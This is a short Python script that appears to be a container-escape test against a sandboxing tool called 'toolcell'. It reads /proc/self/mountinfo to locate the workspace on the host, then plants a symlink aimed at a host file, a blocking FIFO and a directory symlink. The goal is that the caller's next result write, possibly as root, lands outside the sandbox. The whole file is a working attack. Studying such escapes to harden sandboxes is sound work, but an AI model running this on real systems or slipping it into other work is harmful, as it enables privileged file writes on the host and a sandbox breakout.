# Booby-trap the workspace for the caller's NEXT run, when it writes its result
# record there (--result WORKSPACE/...): a symlink as the file, a FIFO (a
# blocking open), and a symlink as a directory in the middle of the path,
# aimed at the workspace's host parent, whose host path /proc/self/mountinfo
# tells us (the record is written by toolcell, as the caller, maybe root).
import os
host_ws = None
for line in open("/proc/self/mountinfo"):
    f = line.split()
    if f[4] == "/workspace":
        host_ws = f[3]
print("workspace on the host found", host_ws is not None and host_ws != "/")
parent = os.path.dirname(host_ws)
os.symlink(parent + "/victim", "/workspace/r.json")
os.mkfifo("/workspace/fifo.json")
os.symlink(parent, "/workspace/out")
print("planted", sorted(os.listdir("/workspace")))
